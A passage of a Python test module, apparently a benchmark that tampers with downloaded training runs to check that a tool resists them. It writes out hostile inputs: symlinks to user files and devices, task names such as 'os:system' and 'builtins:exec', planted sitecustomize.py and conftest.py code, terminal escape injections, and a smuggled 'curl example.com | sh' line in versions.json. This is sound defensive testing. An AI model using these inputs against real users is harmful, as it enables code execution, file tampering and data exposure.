"""What a stranger may have put into a run that somebody downloads: each case changes an unharmed run in place.

The kinds: links, hard links, pipes and devices in every place of a run, folders and files in each other's place,
holes, thousands of things, code of all sorts, sizes, numbers and text in the configuration, rows, arrays and
records that are signed but wrong, and those that a run withstood from the beginning.
"""

from collections.abc import Callable, Iterable, Iterator
import contextlib
import dataclasses
import io
import json
import os
from pathlib import Path
import pickle
import random
import re
import shutil
import socket
import stat
import zipfile

import numpy as np

from benchmarks.attacks import forging, hostile
from benchmarks.attacks.forging import GROUPS, change_arrays, change_config, change_manifest, checkpoints, newest
from fcritic.config import TrainConfig
from fcritic.runs.checkpoint import MANIFEST

SECRET = b"known to the user alone"
"""It stands in files of the user, and must not turn up in what a command prints or writes."""

NOT_YET = "has no checkpoint yet"
"""Is not said of a run with a checkpoint that cannot be used."""


@dataclasses.dataclass(frozen=True)
class Scene:
    """Folders of a user who has got a run from somebody."""

    around: Path
    """Holds all the others, and is what must not change."""
    planted: Path
    """A file that foreign code would make; it lies elsewhere."""
    out: Path
    """A folder for what the user asks for with `--out`; it lies elsewhere."""

    @property
    def home(self) -> Path:
        """The user's own."""
        return self.around / "home"

    @property
    def work(self) -> Path:
        """Where the commands are typed."""
        return self.home / "work"

    @property
    def mine(self) -> Path:
        """Another run of the user."""
        return self.home / "mine"

    @property
    def run(self) -> Path:
        """The run that was received."""
        return self.around / "received" / "run"

    @property
    def sent(self) -> Path:
        """A file or folder that was received beside it: data, a policy or an evaluator."""
        return self.around / "received" / "sent.onnx"


Attack = Callable[[Scene], object]


@dataclasses.dataclass(frozen=True)
class Case:
    """One attack and the commands that its victim may try."""

    kind: str
    name: str
    attack: Attack
    commands: tuple[str, ...]
    refused: tuple[str, ...] = ()
    """Those of the commands that must be refused; the others may also work."""
    works: bool = False
    """Nothing is wrong, and every command must work."""
    never: str = ""
    """A pattern that no message may hold."""
    watched: tuple[str, ...] = ()
    """Modules that must not be imported."""
    verify: Callable[[Scene], str] = lambda scene: ""
    """Says what is wrong with the run afterwards."""


def cases() -> list[Case]:
    """All cases; those of one kind follow one another."""
    generators = (
        _honest,
        _links,
        _hard_links,
        _pipes,
        _devices,
        _swapped_types,
        _holes,
        _thousands,
        _code,
        _task_names,
        _sizes,
        _numbers,
        _texts,
        _versions,
        _rows,
        _arrays,
        _records,
        _pickles,
        _two_runs,
        _damaged,
        _json,
        _headers,
        _corpus,
    )
    from benchmarks.attacks import begun_cases, sent_cases

    own = (case for generator in generators for case in generator())
    return [*own, *sent_cases.cases(), *begun_cases.cases()]


# Nothing is wrong


def _honest() -> Iterator[Case]:
    everything = (
        "resume",
        "continue",
        "evaluate",
        "best",
        "plot",
        "behaviour",
        "replay",
        "export",
        "watch",
        "inspect",
    )
    yield Case("honest", "nothing changed", lambda scene: None, everything, works=True)

    def reached_by_a_link(scene: Scene) -> None:
        os.rename(scene.run, scene.run.with_name("elsewhere"))
        scene.run.symlink_to("elsewhere")

    yield Case("honest", "the folder itself reached by a link", reached_by_a_link, everything, works=True)


# Links, pipes and devices in every place

ROOT_FILES = {
    "lock": ("resume", "watch"),
    "command.txt": ("resume", "export"),
    "versions.json": ("resume", "export"),
    "config.json": ("resume", "evaluate", "plot", "export", "watch"),
    "metrics.jsonl": ("resume", "continue", "evaluate", "plot", "behaviour", "export", "watch"),
    "journal.jsonl": ("resume", "continue", "watch"),
    "inspect.html": ("inspect",),
    "curve.png": ("plot",),
    "replay.html": ("replay",),
    "agent.part": ("export-inside",),
    "agent": ("export-inside",),
}
"""Place of a file in a run, whether it is there or will be written -> the commands that come by."""

CHECKPOINT_FILES = {
    MANIFEST: ("resume", "evaluate", "export"),
    "agent.safetensors": ("resume", "evaluate", "inspect"),
    "rollout.safetensors": ("resume", "evaluate"),
    "environments.safetensors": ("resume",),
    "best.safetensors": ("resume", "best"),
}

FOLDERS = {
    "checkpoints": ("resume", "continue", "evaluate", "export"),
    "NEWEST": ("resume", "continue", "evaluate"),
    "OLDEST": ("continue",),
    "checkpoints/damaged-NEXT": ("continue",),
    "NEXT": ("continue",),
    "replay": ("resume", "continue"),
    "tensorboard": ("continue",),
    "tensorboard/seed-0": ("continue",),
}

FILES = (
    ROOT_FILES
    | {f"NEWEST/{name}": commands for name, commands in CHECKPOINT_FILES.items()}
    | {f"OLDEST/{MANIFEST}": ("continue",)}
    | {f"replay/{which}": ("resume", "continue") for which in ("FIRST", "LAST")}
    | {"replay/AHEAD": ("continue",)}
)

NEEDED = {
    "config.json": ("resume", "evaluate", "plot", "export"),
    "metrics.jsonl": ("plot", "behaviour", "continue"),
}
"""Without these, or with one that leads elsewhere, the command has nothing to work on."""


def place(run: Path, name: str) -> Path:
    """The path of a place, whose name may have a word for one that differs from run to run."""
    found = checkpoints(run)
    frame = int(found[-1].name.removeprefix("step-"))
    rows = sorted((run / "replay").glob("rows-*"))
    first = int(rows[-1].stem.removeprefix("rows-"))
    words = {
        "checkpoints/damaged-NEXT": f"checkpoints/damaged-{found[-1].name}",
        "NEWEST": f"checkpoints/{found[-1].name}",
        "OLDEST": f"checkpoints/{found[0].name}",
        "NEXT": f"checkpoints/step-{frame + 20:012d}",
        "FIRST": rows[0].name,
        "LAST": rows[-1].name,
        "AHEAD": f"rows-{first + 5:012d}.f32",
    }
    for word, value in words.items():
        name = name.replace(word, value)
    return run / name


def clear(path: Path) -> None:
    """Removes whatever is in a place, and makes sure that the folder of the place is there."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def put(name: str, make: Callable[[Path, Scene], object], before: Attack = lambda scene: None) -> Attack:
    """An attack that puts something in a place."""

    def attack(scene: Scene) -> None:
        before(scene)
        path = place(scene.run, name)
        clear(path)
        make(path, scene)

    return attack


def _pointing(target: Callable[[Path, Scene], Path | str]) -> Callable[[Path, Scene], None]:
    """Makes a relative link, as an archive would bring it."""

    def make(path: Path, scene: Scene) -> None:
        goal = target(path, scene)
        path.symlink_to(goal if isinstance(goal, str) else os.path.relpath(goal, path.parent))

    return make


def _same_of_mine(path: Path, scene: Scene) -> Path:
    return scene.mine / path.relative_to(scene.run)


def _in_every_place(
    kind: str, things: dict[str, Callable[[Path, Scene], object]], places: dict[str, tuple[str, ...]]
) -> Iterator[Case]:
    for name, commands in places.items():
        for thing, make in things.items():
            refused = tuple(set(commands) & set(NEEDED.get(name, ())))
            yield Case(kind, f"{name}: {thing}", put(name, make), commands, refused)


def _links() -> Iterator[Case]:
    to_files = {
        "link to a file of the user": _pointing(lambda path, scene: scene.home / "diary"),
        "link to the same of another run": _pointing(_same_of_mine),
        "link to another file of the run": _pointing(lambda path, scene: scene.run / "tensorboard" / "own"),
        "link to a file that is not there": _pointing(lambda path, scene: scene.home / "new"),
        "link to itself": _pointing(lambda path, scene: path.name),
        "link to /dev/zero": _pointing(lambda path, scene: "/dev/zero"),
    }
    yield from _in_every_place("links", to_files, FILES)
    to_folders = {
        "link to the user's folder": _pointing(lambda path, scene: scene.home),
        "link to the same of another run": _pointing(_same_of_mine),
        "link to a folder that is not there": _pointing(lambda path, scene: scene.home / "new"),
        "link to itself": _pointing(lambda path, scene: path.name),
        "link to /dev": _pointing(lambda path, scene: "/dev"),
    }
    yield from _in_every_place("links", to_folders, FOLDERS)

    def forget_rows(scene: Scene) -> None:
        for folder in checkpoints(scene.run):
            change_manifest(folder, lambda manifest: manifest["facts"].update(log_position=0))

    def forget_replay(scene: Scene) -> None:
        for folder in checkpoints(scene.run):
            change_manifest(folder, lambda m: m["facts"]["replay"].update(oldest=m["facts"]["replay"]["written"]))
            change_manifest(folder, lambda m: m["facts"]["replay"].update(pieces=[]))

    for thing in ("link to a file of the user", "link to the same of another run"):
        attack = put("metrics.jsonl", to_files[thing], forget_rows)
        yield Case("links", f"metrics.jsonl: {thing}, and no rows to keep", attack, ("resume", "continue"))
    for thing in ("link to the user's folder", "link to the same of another run"):
        attack = put("replay", to_folders[thing], forget_replay)
        yield Case("links", f"replay: {thing}, and no rows to keep", attack, ("resume", "continue"))
    for name in ("step-000000000001.tmp-7", "step-000000000001.tmp-7-replaced"):
        attack = put(f"checkpoints/{name}", to_folders["link to the user's folder"])
        yield Case("links", f"checkpoints/{name}: link to the user's folder", attack, ("resume",))

    def inside_a_leftover(scene: Scene) -> None:
        folder = scene.run / "checkpoints" / "step-000000000001.tmp-7"
        folder.mkdir()
        (folder / "home").symlink_to(os.path.relpath(scene.home, folder))

    yield Case("links", "a leftover that holds a link to the user's folder", inside_a_leftover, ("resume",))

    def begun_folder(scene: Scene) -> None:
        shutil.rmtree(scene.run)
        scene.run.mkdir()
        for name in ("lock", "versions.json"):
            (scene.run / name).symlink_to("../../home/diary")

    yield Case("links", "a run that has only begun, of links", begun_folder, ("train",))


def _hard_links() -> Iterator[Case]:
    def to_the_diary(path: Path, scene: Scene) -> None:
        os.link(scene.home / "diary", path)

    def to_mine(path: Path, scene: Scene) -> None:
        if _same_of_mine(path, scene).is_file():
            os.link(_same_of_mine(path, scene), path)

    things = {"hard link to a file of the user": to_the_diary, "hard link to the same of another run": to_mine}
    for case in _in_every_place("hard links", things, FILES):
        yield dataclasses.replace(case, refused=())  # nobody can see which of the names is the first


def _pipes() -> Iterator[Case]:
    things = {"pipe": lambda path, scene: os.mkfifo(path), "socket": lambda path, scene: _bind(path)}
    yield from _in_every_place("pipes", things, FILES)
    yield from _in_every_place("pipes", {"pipe": things["pipe"]}, FOLDERS)


def _bind(path: Path) -> None:
    with contextlib.chdir(path.parent), socket.socket(socket.AF_UNIX) as server:
        server.bind(path.name)  # by a short name: the long one is more than a socket can have


def _devices() -> Iterator[Case]:
    kinds = {"/dev/zero": (1, 5), "/dev/full": (1, 7), "/dev/tty": (5, 0)}
    things = {
        f"a device like {name}": (
            lambda path, scene, numbers=numbers: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(*numbers))
        )
        for name, numbers in kinds.items()
    }
    yield from _in_every_place("devices", things, FILES)


def _swapped_types() -> Iterator[Case]:
    full = lambda path, scene: shutil.copytree(scene.mine / "tensorboard", path)
    yield from _in_every_place("file or folder", {"folder": lambda path, scene: path.mkdir(), "full": full}, FILES)
    files = {"file": lambda path, scene: path.write_bytes(b"x"), "empty file": lambda path, scene: path.touch()}
    yield from _in_every_place("file or folder", files, FOLDERS)


def _holes() -> Iterator[Case]:
    for size in (6, 1024):

        def sparse(path: Path, scene: Scene, size: int = size) -> None:
            with path.open("wb") as file:
                file.truncate(size * 2**30)

        yield from _in_every_place("holes", {f"{size} GiB of holes": sparse}, FILES)

    def long_row(path: Path, scene: Scene) -> None:
        shutil.copyfile(scene.mine / path.name, path)
        with path.open("ab") as file:
            file.truncate(6 * 2**30)

    for name in ("metrics.jsonl", "journal.jsonl"):
        attack = put(name, long_row)
        yield Case("holes", f"{name}: rows, then 6 GiB of holes", attack, ROOT_FILES[name])

    def sparse_group(scene: Scene, group: str) -> None:
        with (newest(scene.run) / f"{group}.safetensors").open("r+b") as file:
            file.truncate(40 * 2**30)
        entry = {"bytes": 40 * 2**30, "sha256": "0" * 64}
        change_manifest(newest(scene.run), lambda manifest: manifest["groups"].update({group: entry}))

    for group in GROUPS:
        attack = lambda scene, group=group: sparse_group(scene, group)
        yield Case("holes", f"{group}: 40 GiB that the manifest knows", attack, ("resume", "evaluate", "best"))


def _thousands() -> Iterator[Case]:
    def bad_checkpoints(scene: Scene) -> None:
        for number in range(3000):
            (scene.run / "checkpoints" / f"step-{900_000 + number:012d}").mkdir()

    def bad_copies(scene: Scene) -> None:
        for number in range(3000):
            folder = scene.run / "checkpoints" / f"step-{900_000 + number:012d}"
            folder.mkdir()
            (folder / MANIFEST).write_bytes(b"{}")

    def only_bad(scene: Scene) -> None:
        for folder in checkpoints(scene.run):
            (folder / MANIFEST).write_bytes(b"{}")
        bad_checkpoints(scene)

    def good_copies(scene: Scene) -> None:
        source = newest(scene.run)
        for number in range(3000):
            folder = scene.run / "checkpoints" / f"step-{900_000 + number:012d}"
            shutil.copytree(source, folder, copy_function=os.link)

    def leftovers(scene: Scene) -> None:
        for number in range(3000):
            (scene.run / "checkpoints" / f"step-000000000001.tmp-{number}" / "a").mkdir(parents=True)

    def deep(scene: Scene) -> None:
        with contextlib.chdir(scene.run / "checkpoints"):
            name = "step-000000000001.tmp-7"
            for _ in range(3000):
                os.mkdir(name)
                os.chdir(name)
                name = "a"

    def rows_files(scene: Scene) -> None:
        for number in range(20_000):
            (scene.run / "replay" / f"rows-{900_000 + number:012d}.f32").touch()

    def pieces(scene: Scene) -> None:
        many = [[number, 1, "0" * 64] for number in range(40_000)]
        for folder in checkpoints(scene.run):
            change_manifest(folder, lambda manifest: manifest["facts"]["replay"].update(pieces=many))

    def runs(scene: Scene) -> None:
        config = (scene.run / "config.json").read_bytes()
        for number in range(5000):
            folder = scene.run / "more" / str(number)
            folder.mkdir(parents=True)
            (folder / "config.json").write_bytes(config)

    def circle(scene: Scene) -> None:
        for number in range(50):
            (scene.run / f"again-{number}").symlink_to(".")

    looking = ("resume", "evaluate", "export", "watch")
    yield Case("thousands", "3,000 empty checkpoints", bad_checkpoints, (*looking, "continue"))
    yield Case("thousands", "3,000 checkpoints without facts", bad_copies, looking)
    used = ("resume", "evaluate", "export")
    yield Case("thousands", "no checkpoint but 3,000 bad ones", only_bad, looking, used, never=NOT_YET)
    yield Case("thousands", "3,000 good checkpoints", good_copies, (*looking, "continue"))
    yield Case("thousands", "3,000 leftovers", leftovers, looking)
    yield Case("thousands", "a leftover of 3,000 folders in each other", deep, ("resume", "watch"))
    yield Case("thousands", "20,000 files of rows", rows_files, ("resume", "continue"))
    yield Case("thousands", "40,000 pieces of the replay", pieces, ("resume", "evaluate"), ("resume",))
    yield Case("thousands", "5,000 runs in the run", runs, ("watch", "resume"))
    yield Case("thousands", "links to the run in the run", circle, ("watch", "resume"))


# Code


def _task(task: str, before: Attack = lambda scene: None) -> Attack:
    def attack(scene: Scene) -> None:
        before(scene)
        words = {"RUN": str(scene.run), "WORK": str(scene.work)}
        change_config(scene.run, "task", re.sub("RUN|WORK", lambda found: words[found[0]], task))

    return attack


RUNNING = ("resume", "evaluate", "inspect", "replay", "export")
"""Commands that build the task."""


def _code() -> Iterator[Case]:
    """`helper.py` and `helpers/` in the user's folder make the file `planted` when they are imported."""
    for task in (
        "helper:X-v0",
        "helper:make",
        "helper:missing",
        "helpers.inner:X-v0",
        "helpers.inner:make",
        "helper.py:make",
        "WORK/helper.py:make",
        "../../home/work/helper.py:make",
    ):
        yield Case("code", task, _task(task), RUNNING, RUNNING, watched=("helper", "helpers", "helpers.inner"))
    for task in (
        "this:X-v0",
        "this:s",
        "test.autotest:X-v0",
        "test.autotest:main",
        "os:system",
        "os:abort",
        "subprocess:run",
        "shutil:rmtree",
        "builtins:exec",
        "builtins:exit",
        "code:interact",
        "sys:exit",
        "__main__:x",
        "__main__:X-v0",
        "__main__:main",
        "fcritic.__main__:main",
        "fcritic.cli.dispatch:run",
        "gymnasium.envs.registration:make",
        "benchmarks.attacks.sick:Walk-v0",
    ):
        watched = ("this", "test.autotest", "benchmarks.attacks.sick")
        never = "" if "sick" in task else "fcritic check"  # that one is a task, for whoever trusts it
        yield Case("code", task, _task(task), RUNNING[:2], RUNNING[:2], never=never, watched=watched)

    def plant(scene: Scene) -> None:
        text = f"import pathlib; pathlib.Path({str(scene.planted)!r}).touch()\ndef make(): raise ValueError\n"
        for name in ("evil.py", "evils/__init__.py", "sitecustomize.py", "gymnasium.py", "conftest.py", "task.py"):
            path = scene.run / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(text)

    for task in ("evil:X-v0", "evil:make", "evils:X-v0", "evil.py:make", "RUN/evil.py:make", "probe-delay"):
        refused = () if task == "probe-delay" else ("resume-here", "evaluate-here")
        commands = ("resume-here", "evaluate-here")
        yield Case("code", f"{task} in the run", _task(task, plant), commands, refused, watched=("evil", "evils"))


def _task_names() -> Iterator[Case]:
    def loop(scene: Scene) -> None:
        (scene.run / "loop.py").symlink_to("loop.py")
        (scene.run / "dangling.py").symlink_to("nothing.py")
        (scene.run / "zero.py").symlink_to("/dev/zero")
        (scene.run / "folder.py").mkdir()
        os.mkfifo(scene.run / "pipe.py")

    names = {
        "NUL": "\0",
        "NUL at the end": "probe-delay\0",
        "NUL in a module": "a\0:X-v0",
        "NUL in a file": "\0.py:make",
        "lone surrogate": "\ud800",
        "lone surrogate in a module": "\ud800:X-v0",
        "lone surrogate in a factory": "\ud800:make",
        "lone surrogate in a file": "\ud800.py:make",
        "file that is a link to itself": "RUN/loop.py:make",
        "file that is a dangling link": "RUN/dangling.py:make",
        "file that is /dev/zero": "RUN/zero.py:make",
        "file that is a folder": "RUN/folder.py:make",
        "file that is a pipe": "RUN/pipe.py:make",
        "a million letters": "x" * 10**6,
        "a name of a hundred thousand parts": "a." * 10**5 + "a:X-v0",
        "colons": ":" * 10**5,
        "folders upward": "../" * 5000 + "x.py:make",
        "a long file name": "x" * 5000 + ".py:make",
        "empty": "",
        "blank": " ",
        "only a colon": ":",
        "no factory": "helper:",
        "given": "given:make",
        "a chain of a billion states": "riverswim-1000000000",
        "a grid of a billion cells": "deepsea-999999",
        "a chain without end": f"riverswim-{'9' * 5000}",
        "a negative chain": "riverswim--1",
        "digits of another script": "riverswim-\u0663",
        "line breaks": "a\nfcritic: done\n:X-v0",
        "signs that move the cursor": "a\x1b[2J\x1b]0;pwned\x07:X-v0",
        "a formula": "probe-$\\x$",
        "signs that no font has": "probe-\U0001f600\u4e2d\u202e",
        "a plugin of Gymnasium": "ALE/Pong-v5",
        "percent and braces": "%s%n{0}{__class__}",
    }
    for name, task in names.items():
        yield Case("task names", name, _task(task, loop), (*RUNNING[:2], "plot", "behaviour", "watch"), RUNNING[:2])


# Numbers and text in the configuration

WORK = {"steps", "eval_episodes", "critic_steps", "cycles", "warmup", "eval_every", "log_every", "save_every"}
"""Fields that only say for how long a training works: what is asked for there is not an attack."""

WORKS_LONG = [("seeds", 1000), ("agent.batch_size", 10**6), ("agent.encoder.width", 1000)]
"""Sizes at which a training takes more than 20 s or 2 GB because it was asked to; larger ones are refused."""

CONFIG = {recipe: TrainConfig.of(recipe).to_json() for recipe in ("td3", "fac")}
"""The fields that there are, by recipe."""


def _fields(config: dict, prefix: str = "") -> Iterator[tuple[str, object]]:
    for name, value in config.items():
        if isinstance(value, dict):
            yield from _fields(value, f"{prefix}{name}.")
        else:
            yield f"{prefix}{name}", value


def _changed(kind: str, recipe: str, values: Callable[[object], Iterable[object]]) -> Iterator[Case]:
    """Every field with every such value, in a run with checkpoints and in one that has only begun."""
    suffix = "" if recipe == "td3" else f"-{recipe}"
    for name, was in _fields(CONFIG[recipe]):
        for value in values(was):
            works_longer = name.rpartition(".")[2] in WORK or (name, value) in WORKS_LONG
            attack = lambda scene, name=name, value=value: change_config(scene.run, name, value)
            commands = (f"evaluate{suffix}",) if works_longer else (f"resume{suffix}", f"evaluate{suffix}")
            told = f"{name} = {value!r:.40}"
            yield Case(kind, f"{recipe}: {told}", attack, commands)
            if kind == "sizes" and not works_longer:
                fresh = lambda scene, attack=attack: (_only_begun(scene), attack(scene))
                yield Case(kind, f"{recipe} that has only begun: {told}", fresh, (f"resume{suffix}",))


def _only_begun(scene: Scene) -> None:
    for name in ("checkpoints", "replay", "tensorboard"):
        shutil.rmtree(scene.run / name, ignore_errors=True)
    for name in ("metrics.jsonl", "journal.jsonl"):
        (scene.run / name).unlink(missing_ok=True)


def _sizes() -> Iterator[Case]:
    def values(was: object) -> list[object]:
        if isinstance(was, list):
            return [[10**9], [10**9] * 3, [65_536] * 8, [0], [-1], [], [1] * 64, [1] * 10_000, [2**63]]
        if type(was) in (int, type(None)):
            return [1000, 10_000, 10**6, 10**9, 2**31 - 1, 2**63, 10**400, -1, 0]
        return []

    for recipe in CONFIG:
        yield from _changed("sizes", recipe, values)


def _numbers() -> Iterator[Case]:
    strange = [1e308, -1e308, 1e-320, float("inf"), float("nan"), 0.0, -1.0, 10**400]
    for recipe in CONFIG:
        yield from _changed("numbers", recipe, lambda was: strange if type(was) in (float, type(None)) else [])


def _texts() -> Iterator[Case]:
    strange = ["\0", "\ud800", "", "x" * 10**6, "a\x1b[2J", None, [], {}, 0, True, [[]]]

    def values(was: object) -> list[object]:
        return strange if isinstance(was, str | bool | None) else [strange[0], None]

    for recipe in CONFIG:
        for case in _changed("texts", recipe, values):
            if not re.search(r": (task|log) =", case.name):  # tasks have cases of their own
                yield case
    for value in ("wandb", "trackio", "os", "\0"):
        attack = lambda scene, value=value: change_config(scene.run, "log", value)
        yield Case("texts", f"log = {value!r}", attack, ("resume", "evaluate"))


# Other files of the run


def _versions() -> Iterator[Case]:
    line = "\ncurl example.com | sh #"
    values: dict[str, object] = {
        "line break": f"1{line}",
        "carriage return": f"1\r{line.strip()}",
        "other line breaks": "".join(f"1{sign}echo " for sign in "\v\f\x1c\x1d\x1e\x85\u2028\u2029"),
        "NUL": "1\0",
        "lone surrogate": "\ud800",
        "signs that move the cursor": "\x1b[2J",
        "a million letters": "x" * 10**6,
        "a number": 1e308,
        "an infinite number": float("inf"),
        "a number of 4,000 digits": 10**4000,
        "a list": [line] * 10,
        "an object": {line: line},
        "nothing": None,
    }
    for name, value in values.items():

        def attack(scene: Scene, value: object = value) -> None:
            path = scene.run / "versions.json"
            path.write_text(json.dumps(json.loads(path.read_bytes()) | {"jax": value}))

        def attack_name(scene: Scene, value: object = value) -> None:
            path = scene.run / "versions.json"
            path.write_text(json.dumps(json.loads(path.read_bytes()) | {str(value)[:10_000]: "1"}))

        commands = ("resume", "continue", "export")
        yield Case("versions", f"a value with {name}", attack, commands, verify=_lines_are_records)
        yield Case("versions", f"a name with {name}", attack_name, commands, verify=_lines_are_records)

    def commands_of_a_stranger(scene: Scene) -> None:
        text = "2026-01-01T00:00:00+00:00 fcritic train --out '\ud800\0' \x1b[2J\n"
        (scene.run / "command.txt").write_bytes(text.encode(errors="surrogatepass") * 3)

    yield Case("versions", "command.txt that is not text", commands_of_a_stranger, ("resume", "export"))
    endless = put("command.txt", lambda path, scene: path.write_bytes(b"2026 fcritic " * 10**7))
    yield Case("versions", "command.txt of one line of 130 MB", endless, ("resume", "export"))


def _lines_are_records(scene: Scene) -> str:
    """Every line of command.txt, by any rule for lines, begins with a date."""
    text = (scene.run / "command.txt").read_bytes().decode(errors="surrogateescape")
    strange = [line for line in re.split("[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]", text) if line]
    strange = [line for line in strange if not re.match(r"\d{4}-\d\d-\d\dT", line)]
    return f"command.txt has the line {strange[0]!r:.80}" if strange else ""


def _rows() -> Iterator[Case]:
    row = lambda **values: json.dumps({"seed": 0, "env_steps": 100, "kind": "evaluation"} | values).encode()
    good = {"mean_actor": 1.0, "best_actor": 1.0, "actors": [1.0]}
    digits = 10**400
    lines = {
        "seed 1e999": row(seed=1, **good).replace(b'"seed": 1', b'"seed": 1e999'),
        "seed NaN": row(seed=float("nan"), **good),
        "seed of 400 digits": row(seed=digits, **good),
        "seed of text": row(seed="0", **good),
        "seed of a list": row(seed=[0], **good),
        "negative seed": row(seed=-1, **good),
        "frame 1e999": row(**good).replace(b'"env_steps": 100', b'"env_steps": 1e999'),
        "frame of 400 digits": row(env_steps=digits, **good),
        "negative frame": row(env_steps=-5, **good),
        "return of 400 digits": row(mean_actor=digits, best_actor=digits, actors=[digits]),
        "return 1e308": row(mean_actor=1e308, best_actor=-1e308, actors=[1e308]),
        "return 1e999": row(mean_actor=float("inf"), best_actor=float("-inf"), actors=[]),
        "return of a list": row(mean_actor=[1.0], best_actor=[1.0], actors=1.0),
        "return of text": row(mean_actor="\ud800", best_actor="x", actors="x"),
        "no return": row(),
        "kind of a list": row(kind=[], **good),
        "kind of a number": row(kind=1, **good),
        "kind with NUL": row(kind="evaluation\0", **good),
        "rollout of 400 digits": row(kind="episode", env=0, length=2)[:-1] + b', "return": 1' + b"0" * 400 + b"}",
        "rollout 1e999": row(kind="episode", env=0, length=2)[:-1] + b', "return": 1e999}',
        "behaviour of 400 digits": row(kind="behaviour", diversity=digits, coverage=digits),
        "behaviour of text": row(kind="behaviour", diversity="x", coverage=None, disagreement=[]),
        "first reward of a list": row(kind="first_reward", reward=[]),
        "train of 400 digits": row(kind="train", critic_loss=digits),
        "a list": b"[]",
        "null": b"null",
        "nothing": b"",
        "not text": b"\xff\xfe\x00",
        "not JSON": b"{",
        "nested": b"[" * 200_000,
        "nested objects": b'{"a":' * 100_000,
        "names twice": b'{"seed": 0, "seed": [], "env_steps": 1, "kind": "evaluation", "kind": "episode"}',
        "a long number": b'{"seed": ' + b"9" * 10_000 + b"}",
        "a name of surrogates": b'{"seed": 0, "env_steps": 1, "kind": "evaluation", "\\ud800\\u0000": 1}',
        "a row of 50 MB": row(kind="x" * 50_000_000),
        "a hundred thousand actors": row(mean_actor=1.0, best_actor=1.0, actors=[1.0] * 100_000),
    }
    commands = ("plot", "behaviour", "evaluate", "export", "watch", "resume")
    for name, line in lines.items():
        attack = lambda scene, line=line: _append(scene.run / "metrics.jsonl", line + b"\n")
        yield Case("rows", name, attack, commands)
    whole = ', "kind": "evaluation", "mean_actor": 1, "best_actor": 1}\n'
    for name, begin in {
        "many seeds": '{"env_steps": 1, "seed": ',
        "many rows": '{"seed": 0, "env_steps": ',
    }.items():
        text = "".join(f"{begin}{number}{whole}" for number in range(100_000))
        attack = lambda scene, text=text: _append(scene.run / "metrics.jsonl", text.encode())
        yield Case("rows", name, attack, commands)
    for name in ("seed 1e999", "frame of 400 digits", "nested", "not text", "a list", "a row of 50 MB"):
        line = lines[name].replace(b'"seed"', b'"time"')
        attack = lambda scene, line=line: _append(scene.run / "journal.jsonl", line + b"\n")
        yield Case("rows", f"journal: {name}", attack, ("watch", "resume"))
    for name, line in {
        "a time of 400 digits": b'{"time": 1' + b"0" * 400 + b', "env_steps": 1}',
        "a time 1e999": b'{"time": 1e999, "env_steps": 1e999, "event": "begin"}',
        "an event of surrogates": b'{"time": 1, "env_steps": 1, "event": "warning", "text": "\\ud800\\u001b[2J"}',
    }.items():
        attack = lambda scene, line=line: _append(scene.run / "journal.jsonl", line + b"\n")
        yield Case("rows", f"journal: {name}", attack, ("watch", "resume"))


def _append(path: Path, data: bytes) -> None:
    with path.open("ab") as file:
        file.write(data)


# What is signed and yet wrong


def _arrays() -> Iterator[Case]:
    parts = {
        "everything": "",
        "actors": "actors/params|actor/params|actor",
        "critics": "critics/params|critic",
        "targets": "targets",
        "moments": "opt_state",
        "normaliser": "normalizer",
        "tallies": "tally",
    }
    for part, pattern in parts.items():
        for value in (np.nan, np.inf, -np.inf, 3e38):

            def attack(scene: Scene, pattern: str = pattern, value: float = value) -> None:
                poison = lambda name, array: (
                    np.full_like(array, value) if array.dtype.kind == "f" and re.search(pattern, name) else array
                )
                for folder in checkpoints(scene.run):
                    change_arrays(folder, "agent", poison)

            needed = () if value == 3e38 or part == "tallies" else ("resume", "continue")
            acting = ("evaluate", "replay", "export") if part in ("everything", "actors") and needed else ()
            asking = ("inspect",) if part in ("everything", "actors", "critics") and needed else ()
            commands = ("resume", "evaluate", "replay", "export", "inspect") + ("continue",) * bool(needed)
            never = "learning rate|--learning-rate|the task|check your"
            yield Case(
                "arrays", f"agent: {part} = {value}", attack, commands, (*needed, *acting, *asking), never=never
            )
    for group, refused in {"rollout": ("resume",), "environments": (), "best": ("best",)}.items():
        for value in (np.nan, np.inf, -1e30):

            def attack(scene: Scene, group: str = group, value: float = value) -> None:
                for folder in checkpoints(scene.run):
                    change_arrays(
                        folder,
                        group,
                        lambda name, array: np.full_like(array, value) if array.dtype.kind == "f" else array,
                    )

            must = refused if not np.isfinite(value) else ()
            yield Case("arrays", f"{group}: {value}", attack, ("resume", "continue", "best", "export"), must)
    for group in GROUPS:
        for value in (-1, 2**31 - 1, -(2**31)):

            def attack(scene: Scene, group: str = group, value: int = value) -> None:
                replace = lambda name, array: (
                    np.full_like(array, value & (2**32 - 1) if array.dtype.kind == "u" else value)
                    if array.dtype.kind in "iu"
                    else array
                )
                for folder in checkpoints(scene.run):
                    change_arrays(folder, group, replace)

            commands = ("resume", "continue", "evaluate", "best")
            refused = ()
            if group == "rollout":  # which actor acts is what a functional agent remembers
                commands = tuple(f"{command}-fac" for command in commands)
                refused = commands[:2]
            yield Case("arrays", f"{group}: whole numbers = {value}", attack, commands, refused)


def _records() -> Iterator[Case]:
    def facts(**changes: object) -> Callable[[dict], object]:
        return lambda manifest: manifest["facts"].update(changes)

    def replay(**changes: object) -> Callable[[dict], object]:
        return lambda manifest: manifest["facts"]["replay"].update(changes)

    def shifted(manifest: dict) -> None:
        record = manifest["facts"]["replay"]
        record["oldest"], record["written"] = record["oldest"] + 1000, record["written"] + 1000
        record["pieces"] = [[first + 1000, steps, sha] for first, steps, sha in record["pieces"]]

    must = {
        "no rows of so many": replay(oldest=60, written=60, pieces=[]),
        "no rows at all": replay(oldest=0, written=0, pieces=[]),
        "rows of the far future": replay(oldest=2**31 - 2, written=2**31 - 2, pieces=[]),
        "rows a thousand steps later": shifted,
        "fewer rows than were written": lambda m: m["facts"]["replay"].update(
            oldest=m["facts"]["replay"]["written"] - 1
        ),
        "written before oldest": replay(oldest=9, written=3),
        "negative": replay(oldest=-5, written=-1),
        "numbers of text": replay(oldest="0", written="60"),
        "1e308": replay(oldest=1e308, written=1e308),
        "true": replay(oldest=True, written=True),
        "pieces of text": replay(pieces="x"),
        "pieces of numbers": replay(pieces=[1, 2, 3]),
        "pieces of surrogates": replay(pieces=[[0, 1, "\ud800"]]),
        "pieces that are too long": replay(pieces=[[0, 2**40, "0" * 64]]),
